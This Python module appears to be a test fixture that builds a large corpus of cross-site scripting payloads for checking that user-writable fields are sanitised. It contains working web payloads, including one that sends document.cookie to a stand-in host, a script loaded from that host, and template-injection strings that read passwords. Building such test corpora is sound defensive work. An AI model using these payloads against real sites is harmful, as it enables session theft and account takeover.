"""A corpus of cross-site scripting payloads, built from families the probe used.

Each family is a short list of templates crossed with the small set of script bodies and
encodings below, so the corpus stays readable while holding well over 200 distinct strings.
Nothing here is executed; the XSS tests write every string into every user-writable text field
and check that no output carries executable markup.
"""

BODIES = ["alert(1)", "alert(document.cookie)", "fetch('//evil.example/'+document.cookie)"]

SCRIPT_TAGS = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{js}</script>",
    "<script/x>{js}</script>",
    "<<script>{js}//<</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</script><script>{js}</script>",
    "<script\n>{js}</script>",
]
EVENT_HANDLERS = [
    '<img src=x onerror="{js}">',
    "<img src=x onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<body onload={js}>",
    "<svg onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<marquee onstart={js}>",
    '<div onmouseover="{js}">hover</div>',
    "<a onclick={js}>x</a>",
    "<select autofocus onfocus={js}>",
    "<img/src/onerror={js}>",
]
ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="{js}',
    "' onmouseover='{js}",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '" autofocus onfocus="{js}" x="',
    '"><img src=x onerror={js}>',
    "`><img src=x onerror={js}>",
    '" style="x:expression({js})',
]
URL_SCHEMES = [
    '<a href="javascript:{js}">x</a>',
    '<a href="JaVaScRiPt:{js}">x</a>',
    '<a href=" javascript:{js}">x</a>',
    '<a href="java&#x09;script:{js}">x</a>',
    '<a href="&#106;avascript:{js}">x</a>',
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    '<a href="vbscript:{js}">x</a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<form action="javascript:{js}"><button>x</button></form>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<img src="javascript:{js}">',
]
SVG_MATHML = [
    "<svg><script>{js}</script></svg>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math href="javascript:{js}">x</math>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{js}'/>#x\"/></svg>",
]
MARKDOWN_TRICKS = [
    "[click](javascript:{js})",
    "[click](JAVASCRIPT:{js})",
    "[click]( javascript:{js} )",
    "![x](javascript:{js})",
    '![x](x" onerror="{js})',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{js})",
    "<javascript:{js}>",
    "[x][ref]\n\n[ref]: javascript:{js}",
    '[x](https://ok.example "title" onmouseover="{js}")',
    "`<script>{js}</script>`",
    "```\n</code><script>{js}</script>\n```",
    "> <img src=x onerror={js}>",
    "* <svg onload={js}>",
]
CSS = [
    "<style>body{{background:url(javascript:{js})}}</style>",
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width:expression({js})">x</div>',
    "<link rel=stylesheet href=javascript:{js}>",
    "<style>@import 'javascript:{js}';</style>",
]
OTHER_TAGS = [
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "<base href=javascript:{js}//>",
    "<isindex action=javascript:{js} type=image>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><script>{js}</script></template>",
    "<xmp><script>{js}</script></xmp>",
    "<!--<img src=x onerror={js}>-->",
    "<![CDATA[<script>{js}</script>]]>",
]
# Strings that are dangerous only if some layer evaluates them (templates, formulas, encodings).
STANDALONE = [
    "{{7*7}}",
    "{{ request.user.password }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u2028<script>alert(1)</script>",
    "<img src=x onerror\u3000=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '=HYPERLINK("javascript:alert(1)")',
]

FAMILIES = {
    "script": SCRIPT_TAGS,
    "handler": EVENT_HANDLERS,
    "breakout": ATTRIBUTE_BREAKOUTS,
    "url": URL_SCHEMES,
    "svg": SVG_MATHML,
    "markdown": MARKDOWN_TRICKS,
    "css": CSS,
    "tag": OTHER_TAGS,
}


def _catalogue():
    seen = {}
    for family, templates in FAMILIES.items():
        for template in templates:
            for body in BODIES:
                seen.setdefault(template.format(js=body), family)
    for payload in STANDALONE:
        seen.setdefault(payload, "standalone")
    return list(seen.items())


PAYLOADS = _catalogue()
